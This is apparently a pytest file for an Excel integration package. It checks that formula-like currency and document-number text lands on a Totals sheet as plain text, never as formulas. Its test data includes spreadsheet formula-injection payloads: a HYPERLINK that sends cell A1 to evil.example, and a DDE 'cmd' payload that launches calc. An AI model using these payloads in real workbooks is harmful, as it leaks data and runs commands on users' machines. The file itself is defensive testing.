"""Text that Excel would take for a formula (a currency, a document number, a customer's
name from the platform) lands on the Totals sheet as text in both adapters, never as a
formula; and a workbook made before the Totals sheet gets one that prints on one page."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl

from rootfi_excel.app.totals import refresh_totals
from rootfi_excel.lookups.ledger_totals import LEDGER_TABLE
from rootfi_excel.lookups.posted_sheet import PostedReport
from rootfi_excel.sheets.layout import PAYMENTS, RESULT_COLUMNS, SETTINGS_SHEET, SETTINGS_TABLE, Status
from rootfi_excel.sheets.totals_view import TOTALS_SHEET, TOTALS_TABLE
from rootfi_excel.sheets.workbook_settings import read_workbook_settings
from rootfi_excel.workbook.excel import ExcelWorkbook
from rootfi_excel.sheets.port import LookupTable
from rootfi_excel.workbook.template import build_template
from rootfi_excel.workbook.xlsx import XlsxWorkbook
from tests.support.books import PAYMENT_HEADERS, row_of, write_book
from tests.support.fake_xlwings import FakeBook, Formula

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "=1+1"]
DAY = dt.datetime(2026, 3, 31)


def hostile_payments() -> list[dict]:
    return [{"document_number": f"R-{n}", "invoice_id": "1", "amount": 10 + n, "payment_date": DAY,
             "currency_id": text, "status": Status.CREATED, "rootfi_id": str(100 + n)}
            for n, text in enumerate(HOSTILE)]


def hostile_ledger() -> PostedReport:
    """A Posted read whose records carry formula-like text: a currency, a document number."""
    records = [{"rootfi_id": 100 + n, "document_number": text, "amount": 10 + n, "currency_id": text,
                "payment_date": "2026-03-31"} for n, text in enumerate(HOSTILE)]
    records.append({"rootfi_id": 999, "document_number": HOSTILE[0], "amount": 1, "currency_id": HOSTILE[1],
                    "payment_date": "2026-03-31"})  # from elsewhere: named in the difference
    return PostedReport(LookupTable("PostedRecords", ["x"], []), len(records), 5, 0, 1,
                        (dt.date(2026, 3, 1), dt.date(2026, 3, 31)), {"invoice_payments": records},
                        {"invoice_payments": {}})


def test_formula_like_text_is_text_on_the_totals_sheet_of_an_xlsx_file(tmp_path):
    path = build_template(tmp_path / "book.xlsx", payments=hostile_payments(), settings={"company_id": 1001})
    wb = openpyxl.load_workbook(path)  # the currencies as text cells, as a paste or an import leaves them
    for row in wb[PAYMENTS.sheet].iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"
    wb.save(path)
    with XlsxWorkbook.open(path) as workbook:
        found = refresh_totals(workbook, posted=hostile_ledger())
        workbook.save()
    assert found.problem is None
    assert {t.currency for t in found.totals} == set(HOSTILE)
    ws = openpyxl.load_workbook(path)[TOTALS_SHEET]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert {TOTALS_TABLE, LEDGER_TABLE} <= set(ws.tables)
    for text in HOSTILE:
        shown = [c for c in cells if c.value == text]
        assert len(shown) >= 2 and all(c.data_type == "s" for c in shown), text  # both tables, as text
    assert not [c for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(path) as package:
        sheet_xml = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    totals_xml = next(x for x in sheet_xml if b"Control totals" in x)
    assert b"<f>" not in totals_xml and b"<f " not in totals_xml


def test_formula_like_text_is_text_on_the_totals_sheet_in_excel():
    book = FakeBook()
    sheet = book.add_sheet(PAYMENTS.sheet)
    headers = PAYMENT_HEADERS + list(RESULT_COLUMNS)
    sheet.add_table(PAYMENTS.table, 1, 1, headers, [[row.get(h) for h in headers] for row in hostile_payments()])
    book.add_sheet(SETTINGS_SHEET).add_table(SETTINGS_TABLE, 1, 1, ["setting", "value"], [["company_id", 1001]])
    found = refresh_totals(ExcelWorkbook(book), posted=hostile_ledger())
    assert found.problem is None
    totals = book.sheets[TOTALS_SHEET]  # made by the adapter: the workbook had none
    values = list(totals.cells.values())
    assert not [v for v in values if isinstance(v, Formula)]
    for text in HOSTILE:
        assert values.count(text) >= 2, text  # in the control totals and the ledger, exactly as typed
    assert {t.name for t in totals.tables} == {TOTALS_TABLE, LEDGER_TABLE}
    named = [v for v in values if isinstance(v, str) and v.startswith("rootfi_id 999")]
    assert named == [f"rootfi_id 999 ({HOSTILE[0]}) 1.00: not from this workbook"]


def test_a_workbook_without_a_totals_sheet_gets_one_that_prints_on_one_page(tmp_path):
    rows = [row_of(PAYMENT_HEADERS, document_number="R-1", invoice_id="1", amount=5, payment_date=DAY,
                   currency_id="JPY"),
            row_of(PAYMENT_HEADERS, document_number="R-2", invoice_id="1", amount="1.234,5", payment_date=DAY,
                   currency_id="EUR")]
    path = write_book(tmp_path / "old.xlsx", payments=(PAYMENT_HEADERS, rows), settings={"decimal_separator": ","})
    with XlsxWorkbook.open(path) as workbook:
        found = refresh_totals(workbook, read_workbook_settings(workbook)[0].cell_format)
        workbook.save()
    assert found.problem is None
    wb = openpyxl.load_workbook(path)
    ws = wb[TOTALS_SHEET]
    assert wb.sheetnames[-1] == TOTALS_SHEET
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight, ws.page_setup.orientation) == (1, 1, "landscape")
    table = [[c.value for c in row] for row in ws[ws.tables[TOTALS_TABLE].ref]]
    assert ["Invoice Payments", "JPY", "Entered", "5", 1, None] in table  # JPY has no decimals
    assert ["Invoice Payments", "EUR", "Entered", "1.234,50", 1, None] in table  # as this workbook writes it


def test_a_totals_sheet_that_cannot_be_made_never_costs_the_results(tmp_path, monkeypatch):
    """An unexpected error while totalling is logged and said; the workbook's results are saved."""
    from rootfi_excel.sheets import totals_view

    path = build_template(tmp_path / "book.xlsx", payments=hostile_payments(), settings={"company_id": 1001})

    def broken(*args, **kwargs):
        raise ArithmeticError("a bug in the totals")

    monkeypatch.setattr("rootfi_excel.app.totals.totals_table", broken)
    with XlsxWorkbook.open(path) as workbook:
        found = refresh_totals(workbook)
        workbook.save()
    assert found.problem.startswith("The Totals sheet could not be refreshed: an unexpected error")
    assert totals_view.TOTALS_TABLE in openpyxl.load_workbook(path)[TOTALS_SHEET].tables  # the template's, as it was
